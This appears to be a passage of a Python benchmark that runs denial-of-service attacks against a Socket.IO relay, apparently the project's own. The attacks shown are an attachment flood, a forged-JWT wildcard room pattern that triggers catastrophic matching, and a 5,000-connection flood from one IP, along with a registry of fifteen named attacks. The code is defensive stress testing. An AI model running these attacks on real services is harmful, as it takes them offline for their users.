    conn.write(text(b'45999999-["publish",{"_placeholder":true,"num":0}]'))
    sent, t0 = 0, time.monotonic()
    while sent < total and conn.is_open and time.monotonic() - t0 < 15:
        conn.write(chunk)
        sent += len(chunk)
        await conn.drain()
    await ctx.settle(10)
    return f"{sent / 2**20:,.0f} MB of attachments: {conn.state()}"


async def patterns(ctx: Ctx) -> str:
    """A token scoped to ``*a*a*a*a*a*b`` joining a 128-``a`` room (``--scale 3``: 3 times)."""
    import jwt  # (PyJWT, a relay dependency)

    n = ctx.n(1)  # (each check cost 8 s of CPU on the 2-core machine this was written on)
    assert ctx.secret is not None
    token = jwt.encode(
        {"sub": "eve", "rooms": ["*a*a*a*a*a*b"], "exp": int(time.time()) + 3600},
        ctx.secret,
        algorithm="HS256",
    )
    conn = await ctx.client(auth={"token": token})
    await ctx.begin()
    t0 = time.monotonic()
    acks = [conn.emit("join", {"room": "a" * 128}) for _ in range(n)]
    try:
        got = await asyncio.wait_for(asyncio.gather(*acks), 20)
        took = time.monotonic() - t0
        return f"{n} joins answered {counts(ack_code(a) for a in got)} in {took:.1f}s"
    except TimeoutError:
        done = sum(a.done() for a in acks)
        await ctx.settle(20)
        return f"{n} joins: {done} answered in 20 s"


async def connections_flood(ctx: Ctx) -> str:
    """One IP opening 5,000 websocket + Socket.IO connections at once."""
    n = ctx.n(5000)
    await ctx.begin()

    async def one(_: int) -> str:
        conn = await ctx.ws()
        if conn.status != 101:
            return f"HTTP {conn.status}"
        return "connected" if await conn.sio_connect() else "refused at CONNECT"

    outcomes = await gather_limited(n, 1000, one)
    said = counts(o if isinstance(o, str) else type(o).__name__ for o in outcomes)
    other = await newcomer(ctx, OTHER_IP)
    return f"{n:,} tried: {said}; relay says {await ctx.connections()}; other IP {other}"


@dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[Ctx], Awaitable[str]]
    #: settings the setup needs (the attack itself meets the defaults; old code ignores these)
    env: dict[str, str] = field(default_factory=dict)


#: members and fills come from one setup IP, by the thousand
CROWD_ENV = {"RELAY_MAX_CONNECTIONS_PER_IP": "0", "RELAY_CONNECT_RATE": "0"}
SECRET = "abuse-bench-secret-" + "s" * 32  # (PyJWT warns under 32 bytes)
API_KEY = "abuse-bench-key"

ATTACKS = {
    a.name: a
    for a in (
        Attack("fragments", fragments),
        Attack("slow-frame", slow_frame),
        Attack("replay-unread", replay_unread),
        Attack("presence-unread", presence_unread, CROWD_ENV),
        Attack("ping-unread", ping_unread),
        Attack("polling-unread", polling_unread),
        Attack("history-unread", history_unread),
        Attack("history-flood", history_flood),
        Attack("rooms-flood", rooms_flood),
        Attack("publish-flood", publish_flood, CROWD_ENV),
        Attack("slowloris", slowloris),
        Attack("ghosts", ghosts, {"RELAY_CONNECT_RATE": "0"}),
        Attack("attachments", attachments),
        Attack("patterns", patterns, {"RELAY_SECRET": SECRET, "RELAY_API_KEY": API_KEY}),
        Attack("connections-flood", connections_flood),
    )
}
